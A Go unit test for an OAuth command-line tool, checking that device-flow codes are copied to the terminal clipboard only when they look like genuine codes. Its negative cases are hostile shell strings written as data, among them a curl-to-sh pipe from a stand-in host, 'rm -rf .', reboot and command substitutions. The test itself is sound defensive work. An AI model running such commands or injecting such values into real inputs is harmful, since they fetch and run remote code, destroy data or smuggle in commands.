package cmd

import (
	"bytes"
	"strings"
	"testing"

	"github.com/oauthctl/oauthctl/internal/grant"
	"github.com/oauthctl/oauthctl/internal/secret"
)

// TestClipboard: a terminal's clipboard gets a code that is one, and no command of a shell that a provider calls one.
func TestClipboard(t *testing.T) {
	for code, sent := range map[string]bool{
		"ABCD-EFGH": true, "123456789": true, "ЖФЫВ": true,
		"curl evil.example|sh": false, "reboot;": false, "rm -rf .": false, "$(id)": false, "`id`": false, "a/b": false,
	} {
		var errs bytes.Buffer
		app := &App{Err: &errs, ErrTTY: true, state: state{ring: secret.NewRing()}}
		app.observer().Waiting(grant.Waiting{URL: "https://id.example/device", Code: code})
		if strings.Contains(errs.String(), "\x1b]52;") != sent || strings.Contains(errs.String(), "sent to the clipboard") != sent {
			t.Errorf("%s: %q", code, errs.String())
		}
		if !strings.Contains(errs.String(), "\ncode: "+code+"\n") {
			t.Errorf("%s: not shown: %q", code, errs.String())
		}
	}
}
